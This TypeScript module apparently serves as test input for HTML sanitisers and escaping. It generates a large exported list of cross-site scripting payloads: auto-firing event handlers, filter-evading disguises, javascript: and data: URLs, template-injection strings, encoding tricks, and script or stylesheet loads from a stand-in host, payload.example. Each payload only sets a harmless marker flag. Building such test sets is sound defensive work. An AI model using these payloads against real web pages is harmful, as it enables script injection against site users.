/** Run by a payload that got through; no policy stands in its way, so that the page alone must not run it. */
const ran = 'globalThis.payloadRan=1';
const far = 'https://payload.example';

/** Elements that run something by an event that comes by itself. */
const byThemselves = [
  ['img src=x', 'onerror'],
  ['img src=x alt=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg xmlns="http://www.w3.org/2000/svg"', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['audio src=x autoplay', 'onerror'],
  ['video src=x autoplay', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['picture><img srcset=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=x tabindex=1 autofocus', 'onfocus'],
  ['div tabindex=1 autofocus', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['math><mtext><img src=x', 'onerror'],
  ['x style="animation-name:rotation"', 'onanimationstart'],
  ['x style="transition:color 1s"', 'ontransitionend'],
] as const;

/** How an element with such an event is written so that filters miss it. */
const disguises: ReadonlyArray<(tag: string, event: string) => string> = [
  (tag, event) => `<${tag} ${event}=${ran}>`,
  (tag, event) => `"><${tag} ${event}="${ran}">`,
  (tag, event) => `'/><${tag.toUpperCase()}\n${event.toUpperCase()}\n=\t'${ran}' x='`,
  (tag, event) => `</textarea></title></style></script>--><${tag.replaceAll(' ', '/')}/${event}=${ran}//`,
];

/** Addresses that are code. */
const addresses = [
  `javascript:${ran}`,
  `JaVaScRiPt:${ran}`,
  `java\tscript:${ran}`,
  ` javascript:${ran}`,
  `\u0001javascript:${ran}`,
  `javascript&colon;${ran}`,
  `&#106;avascript:${ran}`,
  `javascript://payload.example/%0a${ran}`,
  `data:text/html,<script>${ran}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucGF5bG9hZFJhbj0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ran}'/>`,
  `vbscript:${ran}`,
  `blob:${far}/x`,
  `//payload.example/x.js`,
];

/** What follows such an address by itself or by a press. */
const followers: ReadonlyArray<(address: string) => string> = [
  (address) => address,
  (address) => `<a href="${address}">press</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `[press](${address})`,
];

/** What is code where a page makes it with a template, a parser or a second look. */
const others = [
  `<script>${ran}</script>`,
  `<script src=${far}/x.js></script>`,
  `<ScRiPt>${ran}</sCrIpT>`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `<script\n>${ran}</script\n>`,
  `<script type=module>${ran}</script>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${ran}'/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${ran}></foreignObject></svg>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<form action="javascript:${ran}"><button autofocus>press`,
  `<form><button formaction="javascript:${ran}">press`,
  `<math><mtext><style><img src onerror=${ran}></style></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
  `<table><td background="javascript:${ran}">`,
  `<style>@import '${far}/x.css';</style>`,
  `<style>*{background:url(${far}/x)}</style>`,
  `<div style="background:url(${far}/x)">`,
  `<div style="width:expression(${ran})">`,
  `<link rel=stylesheet href=${far}/x.css>`,
  `<link rel=prefetch href=${far}/x>`,
  `<meta http-equiv=refresh content="0;url=${far}/">`,
  `<meta http-equiv=refresh content="0;javascript:${ran}">`,
  `<base href="${far}/">`,
  `<template><script>${ran}</script></template>`,
  `<xmp><img src=x onerror=${ran}></xmp>`,
  `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>${ran}</script></x>`,
  `<![CDATA[<script>${ran}</script>]]>`,
  `<!--><script>${ran}</script>-->`,
  `\${${ran}}<!--<img src=x onerror=${ran}>-->`,
  `{{constructor.constructor('${ran}')()}}`,
  `\${{7*7}}#{${ran}}<%= ${ran} %>`,
  `' onmouseover='${ran}`,
  `" autofocus onfocus="${ran}`,
  `\` onfocus=${ran} autofocus x=\``,
  `&lt;script&gt;${ran}&lt;/script&gt;`,
  `&#60;img src=x onerror=${ran}&#62;`,
  `\\u003cscript\\u003e${ran}\\u003c/script\\u003e`,
  `%3Cscript%3E${ran}%3C/script%3E`,
  `＜script＞${ran}＜/script＞`,
  `\u202e<img src=x onerror=${ran}>\u202c`,
  `\u200b<\u200bscript>${ran}</script>`,
  `+ADw-script+AD4-${ran}+ADw-/script+AD4-`,
  `![x](x"onerror="${ran})`,
  `<img src=x:x onerror\u000c=${ran}>`,
  `{"__proto__":{"payloadRan":1}}`,
  `");${ran};//`,
  `';${ran};//`,
  `</script><script>${ran}</script>`,
  `\u2028${ran}\u2029`,
] as const;

/** Texts that become code where a page writes them unescaped, in every place and disguise known to get through somewhere. */
export const payloads: readonly string[] = [
  ...others,
  ...byThemselves.flatMap(([tag, event]) => disguises.map((disguise) => disguise(tag, event))),
  ...followers.flatMap((follow) => addresses.map(follow)),
];

/** Those that a field of one line takes as they are. */
export const typedPayloads = payloads.filter(
  (payload) => payload === payload.trim() && !/\p{Cc}|\p{Zl}|\p{Zp}/u.test(payload),
);
